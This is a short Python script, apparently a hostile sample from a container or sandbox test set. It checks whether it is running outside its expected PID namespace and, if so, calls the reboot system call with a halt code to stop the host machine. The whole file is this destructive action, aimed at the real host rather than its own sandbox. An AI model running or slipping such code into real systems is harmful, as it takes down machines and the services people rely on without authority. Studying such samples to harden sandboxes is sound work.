"""Halt the host."""

import os

from hostile import bait, libc

RB_HALT = 0xCDEF0123
if os.stat("/proc/self/ns/pid").st_ino != int(bait.machine):  # else it would be nobody's stage that is halted
    libc.reboot(RB_HALT)
